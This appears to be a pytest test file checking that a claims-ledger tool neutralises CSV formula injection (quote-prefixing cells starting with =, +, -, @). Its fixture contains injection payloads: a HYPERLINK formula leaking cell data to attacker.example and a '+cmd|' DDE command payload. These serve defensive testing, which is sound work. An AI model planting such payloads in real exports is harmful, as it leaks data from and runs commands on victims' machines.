"""CSV formula neutralisation (issue 15, OWASP CSV injection): claims.csv cells began with `=HYPERLINK(...)`,
`+cmd|...`, `-2+3`, which a spreadsheet runs as formulas. Every text cell of every CSV a run writes that starts
with =, +, -, @, tab or CR now starts with `'`; numbers stay numbers; SQLite and Parquet keep the text as is."""
from __future__ import annotations

import csv
import sqlite3
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from claimledger.outputs.ledger import FORMULA_STARTS, neutralised, unneutralised
from claimledger.outputs.run import run

HOSTILE = """Formulas in a paper

=HYPERLINK("http://attacker.example/?leak="&A1, "In 2004, remittances reached USD $16.6 bn").

@SUM(A1) reached USD $16.6 bn in 2004, some 65 or 75% of it from the United States.

+cmd|' /C calc' says 12 million people born in Mexico lived in the United States in 2005.

-2+3 is what 26% of the households reported in 2003, and the temperature fell by -18 degrees.
"""


@pytest.fixture(scope="module")
def hostile_ledger(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "formulas.txt").write_text(HOSTILE, encoding="utf-8")
    run([folder / "formulas.txt"], folder / "ledger")
    return folder / "ledger"


def _cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as f:
        return [cell for row in csv.reader(f) for cell in row]


def test_no_csv_cell_of_a_run_starts_as_a_formula(hostile_ledger: Path) -> None:
    files = sorted(hostile_ledger.rglob("*.csv"))
    assert hostile_ledger / "claims.csv" in files
    for path in files:
        for cell in _cells(path):
            assert cell[:1] not in FORMULA_STARTS or neutralised(cell) == cell, (path.name, cell)


def test_the_formula_sentences_are_marked_as_text_in_claims_csv(hostile_ledger: Path) -> None:
    with (hostile_ledger / "claims.csv").open(encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    sentences = {r["sentence"][:5] for r in rows}
    assert {"'=HYP", "'@SUM", "'+cmd", "'-2+3"} <= sentences, sentences
    assert any(r["value"].startswith("-") and float(r["value"]) < 0 for r in rows)  # a number, left as it is


def test_sqlite_keeps_the_sentence_as_written(hostile_ledger: Path) -> None:
    with sqlite3.connect(hostile_ledger / "ledger.sqlite") as db:
        sentences = {s[:5] for s, in db.execute("select sentence from claims")}
    assert {"=HYPE", "@SUM(", "+cmd|", "-2+3 "} <= sentences


@pytest.mark.parametrize("cell,written", [
    ('=HYPERLINK("x")', '\'=HYPERLINK("x")'), ("@SUM(A1)", "'@SUM(A1)"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("-1.0", "-1.0"), ("+3.5%", "+3.5%"), ("-1,000", "-1,000"),
    ("'=x", "''=x"), ("'90s", "'90s"), ("plain", "plain"), ("", ""),
])
def test_neutralised_marks_formulas_and_leaves_numbers(cell: str, written: str) -> None:
    assert neutralised(cell) == written


@given(st.text())
def test_neutralised_cells_read_back_as_written(text: str) -> None:
    assert unneutralised(neutralised(text)) == text
    assert neutralised(text)[:1] not in FORMULA_STARTS or neutralised(text) == text
